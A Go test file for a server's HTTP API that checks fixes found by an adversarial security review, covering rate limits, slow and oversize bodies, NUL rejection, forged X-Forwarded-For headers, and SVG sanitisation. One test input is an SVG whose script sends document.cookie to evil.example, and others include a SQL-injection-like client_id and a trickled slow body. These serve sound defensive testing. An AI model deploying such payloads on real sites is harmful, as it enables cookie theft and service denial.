package api_test

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/lorebase/lorebase/api"
	"github.com/lorebase/lorebase/llm/openai"
	"github.com/lorebase/lorebase/llm/openai/openaitest"
)

// The tests of issue 14: what an adversarial review of a running server found. Each one failed
// before the fix.

// Item 1: anonymous widget traffic must never lock an organization out of its own API.
func TestWidgetTrafficCannotLockOutKeyPair(t *testing.T) {
	t.Parallel()
	e := setup(t)
	ctx := context.Background()
	if err := e.orgs.SetRateLimit(ctx, e.org.ID, 30); err != nil {
		t.Fatal(err)
	}
	a := e.assistant(e.org, `{"name":"Helper"}`)
	_, token := widgetToken(t, e, e.org.ClientID, "https://shop.example")
	w := []reqOpt{withBearer(token), withHeader("Origin", "https://shop.example")}

	// An anonymous script opens sessions in a loop: more requests than the organization's
	// whole hourly key-pair budget.
	sessions := 0
	var first http.Header
	for i := 0; i < 40; i++ {
		r := e.call("POST", "/api/v1/sessions/", map[string]string{"assistant_id": a.ID, "visitor_id": "bot"}, w...)
		switch r.HTTP.StatusCode {
		case http.StatusCreated:
			sessions++
		case http.StatusTooManyRequests:
		default:
			t.Fatalf("session %d: %d %s", i, r.HTTP.StatusCode, r.Body)
		}
		if i == 0 {
			first = r.HTTP.Header
		}
	}
	// The organization's key pair still has its whole budget, and sees the widget budget too.
	r := e.call("GET", "/api/v1/assistants/", nil, withKey(e.org))
	expect(t, r, http.StatusOK)
	h := r.HTTP.Header
	// (One key-pair call created the assistant.)
	if h.Get("X-RateLimit-Limit") != "30" || h.Get("X-RateLimit-Remaining") != "28" || h.Get("X-RateLimit-Policy") != "key-pair" {
		t.Fatalf("key-pair headers after widget traffic: %v", h)
	}
	if h.Get("X-RateLimit-Widget-Limit") != "20000" || h.Get("X-RateLimit-Widget-Remaining") != strconv.Itoa(20000-40) {
		t.Fatalf("key-pair caller's view of the widget budget: %v", h)
	}
	// Sessions per visitor are capped.
	if sessions != 20 {
		t.Fatalf("one visitor opened %d sessions, want the cap of 20", sessions)
	}

	// Widget callers see their own budgets, never the key pair's.
	if first.Get("X-RateLimit-Policy") == "" || first.Get("X-RateLimit-Widget-Limit") != "20000" || first.Get("X-RateLimit-Widget-Remaining") != "19999" {
		t.Fatalf("widget caller's rate-limit headers: %v", first)
	}
	if first.Get("X-RateLimit-Limit") == "30" {
		t.Fatalf("widget caller sees the key-pair budget: %v", first)
	}
	// The key-pair budget itself still holds: 30 calls an hour, then 429.
	for i := 0; i < 28; i++ {
		expect(t, e.call("GET", "/api/v1/assistants/", nil, withKey(e.org)), http.StatusOK)
	}
	expect(t, e.call("GET", "/api/v1/assistants/", nil, withKey(e.org)), http.StatusTooManyRequests)
	// ... and widget visitors are not locked out by the key pair either.
	expect(t, e.call("GET", "/api/v1/assistants/"+a.ID, nil, w...), http.StatusOK)
}

// Item 1: each widget budget is enforced, and the headers name the tightest.
func TestWidgetBudgets(t *testing.T) {
	t.Parallel()
	e := setup(t, func(e *env) {
		e.cfg = api.Config{Widget: api.WidgetLimits{PerVisitorPerHour: 5, PerIPPerHour: 8, PerClientPerHour: 100}}
	})
	a := e.assistant(e.org, `{"name":"Helper"}`)
	get := func(token string) *response {
		return e.call("GET", "/api/v1/assistants/"+a.ID, nil, withBearer(token), withHeader("Origin", "https://shop.example"))
	}
	_, first := widgetToken(t, e, e.org.ClientID, "https://shop.example")
	for i := 0; i < 5; i++ {
		r := get(first)
		expect(t, r, http.StatusOK)
		if i == 0 && (r.HTTP.Header.Get("X-RateLimit-Policy") != "widget-visitor" || r.HTTP.Header.Get("X-RateLimit-Remaining") != "4") {
			t.Fatalf("headers: %v", r.HTTP.Header)
		}
	}
	r := get(first)
	expect(t, r, http.StatusTooManyRequests)
	if r.HTTP.Header.Get("X-RateLimit-Policy") != "widget-visitor" || r.HTTP.Header.Get("Retry-After") == "" {
		t.Fatalf("visitor limit headers: %v", r.HTTP.Header)
	}
	// A second visitor on the same IP runs into the IP budget (8 counted, the refused one included).
	_, second := widgetToken(t, e, e.org.ClientID, "https://shop.example")
	expect(t, get(second), http.StatusOK)
	expect(t, get(second), http.StatusOK)
	r = get(second)
	expect(t, r, http.StatusTooManyRequests)
	if r.HTTP.Header.Get("X-RateLimit-Policy") != "widget-ip" {
		t.Fatalf("IP limit headers: %v", r.HTTP.Header)
	}
	// Refused requests never spent the client's shared budget: 7 allowed requests only.
	k := e.call("GET", "/api/v1/assistants/", nil, withKey(e.org))
	if got := k.HTTP.Header.Get("X-RateLimit-Widget-Remaining"); got != "93" {
		t.Fatalf("client widget budget remaining %s, want 93 (refused requests must not count)", got)
	}
}

// Item 3: a body trickled slowly is cut off, and an over-limit Content-Length is refused before
// a byte of the body is read.
func TestSlowAndOversizeBodies(t *testing.T) {
	t.Parallel()
	e := setup(t, func(e *env) { e.cfg = api.Config{BodyReadTimeout: time.Second} })
	addr := strings.TrimPrefix(e.srv.URL, "http://")

	send := func(head string, trickle bool) (int, time.Duration) {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		start := time.Now()
		if _, err := conn.Write([]byte(head)); err != nil {
			t.Fatal(err)
		}
		got := make(chan int, 1)
		go func() {
			res, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				got <- 0
				return
			}
			res.Body.Close()
			got <- res.StatusCode
		}()
		tick := time.NewTicker(100 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case status := <-got:
				return status, time.Since(start)
			case <-tick.C:
				if trickle {
					_, _ = conn.Write([]byte(" ")) // whitespace: valid JSON padding, one byte at a time
				}
				if time.Since(start) > 20*time.Second {
					return -1, time.Since(start)
				}
			}
		}
	}
	head := "POST /api/v1/auth/widget-token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nOrigin: https://shop.example\r\n" +
		"Content-Length: 900000\r\n\r\n{\"client_id\":"
	status, took := send(head, true)
	if status != http.StatusRequestTimeout {
		t.Fatalf("trickled 900 KB body: status %d after %v, want 408 after about the 1 s read deadline", status, took)
	}
	over := "POST /api/v1/auth/widget-token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000000\r\n\r\n"
	status, took = send(over, false)
	if status != http.StatusRequestEntityTooLarge {
		t.Fatalf("over-limit Content-Length with no body sent: status %d after %v, want 413 at once", status, took)
	}
	// An upload over the limit too, with credentials.
	up := "POST /api/v1/knowledge/files/ HTTP/1.1\r\nHost: x\r\nX-API-Key: " + e.org.ClientID + "\r\nX-API-Secret: " + e.org.Secret +
		"\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: " + strconv.Itoa(testUploadLimit+2<<20) + "\r\n\r\n"
	if status, took = send(up, false); status != http.StatusRequestEntityTooLarge {
		t.Fatalf("over-limit upload: status %d after %v, want 413", status, took)
	}
	// A normal request on a new connection still works, and a long answer is not cut by the
	// body deadline (the deadline is cleared once the body is read).
	expect(t, e.call("GET", "/api/v1/assistants/", nil, withKey(e.org)), http.StatusOK)
}

// Item 4: page numbers are bounded.
func TestPageNumbersBounded(t *testing.T) {
	t.Parallel()
	e := setup(t)
	for _, q := range []string{"page=9223372036854775807", "page=10001", "page=999999999&page_size=100", "page=92233720368547758070"} {
		r := e.call("GET", "/api/v1/assistants/?"+q, nil, withKey(e.org))
		expect(t, r, http.StatusUnprocessableEntity)
		if !strings.Contains(string(r.Body), `"page"`) || strings.Contains(strings.ToLower(r.detail()), "out of range") {
			t.Fatalf("%s: %s", q, r.Body)
		}
	}
	expect(t, e.call("GET", "/api/v1/assistants/?page=10000&page_size=100", nil, withKey(e.org)), http.StatusOK)
}

// Item 5: NUL characters are refused by the API, and database messages never reach clients.
func TestNULRefusedAndDatabaseTextHidden(t *testing.T) {
	t.Parallel()
	e := setup(t)
	a := e.assistant(e.org, `{"name":"Helper"}`)
	cases := []struct{ method, path, body string }{
		{"POST", "/api/v1/contexts/", `{"user_reference":"a\u0000b","traits":{"name":"x"}}`},
		{"POST", "/api/v1/contexts/", `{"user_reference":"ab","traits":{"na\u0000me":"x"}}`},
		{"POST", "/api/v1/knowledge/qa/", `{"question":"Why\u0000?","answer":"Because."}`},
		{"POST", "/api/v1/assistants/", `{"name":"Bad\u0000name"}`},
		{"POST", "/api/v1/conversations/", `{"assistant_id":"` + a.ID + `","customer_id":"c\u0000"}`},
		{"GET", "/api/v1/conversations/?customer_id=%00", ""},
		{"GET", "/api/v1/contexts/ref%00x", ""},
	}
	for _, c := range cases {
		var body any
		if c.body != "" {
			body = c.body
		}
		r := e.call(c.method, c.path, body, withKey(e.org))
		if r.HTTP.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s %s %s: status %d, want 422: %s", c.method, c.path, c.body, r.HTTP.StatusCode, r.Body)
			continue
		}
		low := strings.ToLower(string(r.Body))
		for _, leak := range []string{"utf8", "byte sequence", "encoding", "sqlstate", "unicode escape"} {
			if strings.Contains(low, leak) {
				t.Errorf("%s %s: database text in the reply: %s", c.method, c.path, r.Body)
			}
		}
		if !strings.Contains(low, "nul") {
			t.Errorf("%s %s: the reply does not say what is wrong: %s", c.method, c.path, r.Body)
		}
	}
}

// Item 6: refused widget-token requests from a few IPs must not spend the client's budget.
func TestRefusedTokenRequestsDoNotSpendClientBudget(t *testing.T) {
	t.Parallel()
	e := setup(t, func(e *env) { e.cfg = api.Config{TrustProxy: true} })
	// Eleven IPs each send 55 requests with an origin the client does not allow: 605 requests,
	// more than the old per-client limit of 600 a minute.
	for ip := 1; ip <= 11; ip++ {
		for i := 0; i < 55; i++ {
			r := e.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": e.org.ClientID},
				withHeader("Origin", "https://evil.example"), withHeader("X-Forwarded-For", fmt.Sprintf("198.51.100.%d", ip)))
			if r.HTTP.StatusCode != http.StatusBadRequest && r.HTTP.StatusCode != http.StatusTooManyRequests {
				t.Fatalf("bad-origin request: %d %s", r.HTTP.StatusCode, r.Body)
			}
		}
	}
	// A real visitor still gets a token.
	r := e.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": e.org.ClientID},
		withHeader("Origin", "https://shop.example"), withHeader("X-Forwarded-For", "203.0.113.9"))
	if r.HTTP.StatusCode != http.StatusOK {
		t.Fatalf("a real visitor was denied a token after refused requests from other IPs: %d %s", r.HTTP.StatusCode, r.Body)
	}
}

// Item 7: behind a trusted proxy, the client IP is the entry the proxy added, not the leftmost
// one the client wrote.
func TestTrustedProxyEntryIsTheClientIP(t *testing.T) {
	t.Parallel()
	e := setup(t, func(e *env) { e.cfg = api.Config{TrustProxy: true} })
	limited := 0
	for i := 0; i < 61; i++ {
		// The client forges a new leftmost address each time; the proxy appends the real one.
		r := e.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": e.org.ClientID},
			withHeader("Origin", "https://shop.example"), withHeader("X-Forwarded-For", fmt.Sprintf("10.9.%d.%d, 203.0.113.50", i/200, i%200)))
		if r.HTTP.StatusCode == http.StatusTooManyRequests {
			limited++
		}
	}
	if limited == 0 {
		t.Fatal("forged leftmost X-Forwarded-For entries escaped the per-IP token limit")
	}
	// With two proxies, the second entry from the right is the client's.
	e2 := setup(t, func(e *env) { e.cfg = api.Config{TrustProxy: true, TrustedProxyHops: 2} })
	limited = 0
	for i := 0; i < 61; i++ {
		r := e2.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": e2.org.ClientID},
			withHeader("Origin", "https://shop.example"), withHeader("X-Forwarded-For", fmt.Sprintf("10.9.%d.%d, 203.0.113.50, 10.0.0.1", i/200, i%200)))
		if r.HTTP.StatusCode == http.StatusTooManyRequests {
			limited++
		}
	}
	if limited == 0 {
		t.Fatal("with two trusted hops, forged entries escaped the per-IP token limit")
	}
}

// Item 9: a widget token stops working as soon as its origin is removed from the client.
func TestWidgetTokenStopsWhenOriginRemoved(t *testing.T) {
	t.Parallel()
	e := setup(t)
	a := e.assistant(e.org, `{"name":"Helper"}`)
	_, token := widgetToken(t, e, e.org.ClientID, "https://shop.example")
	w := []reqOpt{withBearer(token), withHeader("Origin", "https://shop.example")}
	expect(t, e.call("GET", "/api/v1/assistants/"+a.ID, nil, w...), http.StatusOK)
	if err := e.orgs.SetClientOrigins(context.Background(), e.org.ClientID, []string{"https://other.example"}); err != nil {
		t.Fatal(err)
	}
	expect(t, e.call("GET", "/api/v1/assistants/"+a.ID, nil, w...), http.StatusUnauthorized)
	expect(t, e.call("POST", "/api/v1/sessions/", map[string]string{"assistant_id": a.ID}, w...), http.StatusUnauthorized)
}

// Item 10: one visitor's Idempotency-Key never blocks another visitor's.
func TestIdempotencyKeyScopedToSession(t *testing.T) {
	t.Parallel()
	e := setup(t)
	a := e.assistant(e.org, `{"name":"Helper"}`)
	var replies []string
	for i, text := range []string{"Where is my parcel?", "How do refunds work?"} {
		_, token := widgetToken(t, e, e.org.ClientID, "https://shop.example")
		w := []reqOpt{withBearer(token), withHeader("Origin", "https://shop.example")}
		s := e.call("POST", "/api/v1/sessions/", map[string]string{"assistant_id": a.ID}, w...)
		expect(t, s, http.StatusCreated)
		var sess struct {
			ID string `json:"id"`
		}
		s.data(&sess)
		r := e.call("POST", "/api/v1/sessions/"+sess.ID+"/messages", map[string]string{"content": text},
			append(w, withHeader("Idempotency-Key", "message-1"))...)
		if r.HTTP.StatusCode != http.StatusOK {
			t.Fatalf("visitor %d with a key another visitor used: %d %s", i, r.HTTP.StatusCode, r.Body)
		}
		if r.HTTP.Header.Get("Idempotent-Replayed") != "" {
			t.Fatalf("visitor %d got another visitor's reply replayed", i)
		}
		var rep struct {
			UserMessage struct {
				Content string `json:"content"`
			} `json:"user_message"`
		}
		r.data(&rep)
		replies = append(replies, rep.UserMessage.Content)
	}
	if replies[0] == replies[1] {
		t.Fatalf("replies = %q", replies)
	}
}

// Item 12: an absurd client_id is refused before any lookup and never becomes a bucket key.
func TestClientIDValidatedAndBucketsHashed(t *testing.T) {
	t.Parallel()
	e := setup(t)
	long := "lbc_" + strings.Repeat("A", 10000)
	r := e.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": long}, withHeader("Origin", "https://shop.example"))
	expect(t, r, http.StatusUnprocessableEntity)
	r = e.call("POST", "/api/v1/auth/widget-token", map[string]string{"client_id": "lbc_ab'; --"}, withHeader("Origin", "https://shop.example"))
	expect(t, r, http.StatusUnprocessableEntity)
	r = e.call("GET", "/api/v1/assistants/", nil, withHeader("X-API-Key", long), withHeader("X-API-Secret", "lbs_x"))
	expect(t, r, http.StatusUnauthorized)
	// A real token and a real key-pair call, then no bucket names a client id, IP or org id.
	widgetToken(t, e, e.org.ClientID, "https://shop.example")
	expect(t, e.call("GET", "/api/v1/assistants/", nil, withKey(e.org)), http.StatusOK)
	var n, leaky int
	err := e.db.Pool.QueryRow(context.Background(), `SELECT count(*), count(*) FILTER (WHERE bucket LIKE '%lbc_%' OR bucket LIKE '%127.0.0.1%'
		OR bucket LIKE '%' || $1 || '%' OR length(bucket) > 64) FROM rate_limit_windows`, e.org.ID).Scan(&n, &leaky)
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 || leaky != 0 {
		t.Fatalf("%d buckets, %d of them holding raw identifiers or too long", n, leaky)
	}
}

// nosniff on every response: success, errors, unmatched routes, preflights, bare tokens.
func TestNoSniffEverywhere(t *testing.T) {
	t.Parallel()
	e := setup(t)
	responses := []*response{
		e.call("GET", "/healthz", nil),
		e.call("GET", "/api/v1/assistants/", nil, withKey(e.org)),
		e.call("GET", "/api/v1/assistants/", nil),
		e.call("GET", "/nope", nil),
		e.call("OPTIONS", "/api/v1/sessions/", nil, withHeader("Origin", "https://shop.example"), withHeader("Access-Control-Request-Method", "POST")),
	}
	r, _ := widgetToken(t, e, e.org.ClientID, "https://shop.example")
	responses = append(responses, r)
	for _, r := range responses {
		if r.HTTP.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s %s: no nosniff header", r.HTTP.Request.Method, r.HTTP.Request.URL.Path)
		}
	}
}

// SVG uploads are markup: their text is indexed, their markup (scripts included) never is.
func TestSVGUploadIndexesTextOnly(t *testing.T) {
	t.Parallel()
	e := setup(t)
	e.startWorker()
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>Returns flow</title>` +
		`<script>fetch("https://evil.example/?c="+document.cookie)</script>` +
		`<text x="1" y="2">Refunds reach your card within <tspan>five</tspan> working days.</text></svg>`
	for _, c := range []struct{ name, fileType string }{{"flow.svg", ""}, {"flow.txt", "text"}} {
		r := e.upload(e.org, "Returns flow", c.fileType, c.name, []byte(svg))
		expect(t, r, http.StatusAccepted)
		var it struct {
			ID       string `json:"id"`
			FileType string `json:"file_type"`
		}
		r.data(&it)
		if it.FileType != "svg" {
			t.Errorf("%s: file_type %q, want svg", c.name, it.FileType)
		}
		if done := e.waitItem(e.org, it.ID); done.Status != "ready" {
			t.Fatalf("%s: %+v", c.name, done)
		}
		all := ""
		for _, ch := range e.chunks(it.ID) {
			all += ch.Content + "\n"
		}
		if !strings.Contains(all, "Refunds reach your card within five working days.") {
			t.Errorf("%s: text not indexed: %q", c.name, all)
		}
		for _, leak := range []string{"<script", "alert", "evil.example", "<svg", "onload"} {
			if strings.Contains(all, leak) {
				t.Errorf("%s: markup %q indexed: %q", c.name, leak, all)
			}
		}
	}
}

// Item 3: the body deadline ends once the body is read; a model answer that takes longer
// than the deadline still reaches the caller (the server's background read, which notices a
// client going away, must not time out and cancel it).
func TestBodyDeadlineDoesNotCutLongAnswers(t *testing.T) {
	t.Parallel()
	fake := openaitest.NewServer(t, openaitest.Options{Reply: func(r openaitest.Request) string {
		time.Sleep(2500 * time.Millisecond)
		return "Refunds reach your card within five working days [1]."
	}})
	chat, err := openai.NewChat(openai.Config{BaseURL: fake.URL, ChatModel: "slow-gpt"})
	if err != nil {
		t.Fatal(err)
	}
	e := setup(t, func(e *env) { e.chatModel = chat; e.cfg = api.Config{BodyReadTimeout: time.Second} })
	e.startWorker()
	e.knowledgeBase(e.org)
	a := e.assistant(e.org, `{"name":"Sofia"}`)
	r := e.call("POST", "/api/v1/conversations/", map[string]any{"assistant_id": a.ID, "customer_id": "c-1"}, withKey(e.org))
	expect(t, r, http.StatusCreated)
	var conv struct {
		ID string `json:"id"`
	}
	r.data(&conv)
	start := time.Now()
	r = e.call("POST", "/api/v1/conversations/"+conv.ID+"/messages", `{"content":"How long does a refund take to reach my card?"}`, withKey(e.org))
	expect(t, r, http.StatusOK)
	if !strings.Contains(string(r.Body), "five working days") || time.Since(start) < 2*time.Second {
		t.Fatalf("reply after %v: %s", time.Since(start), r.Body)
	}
}
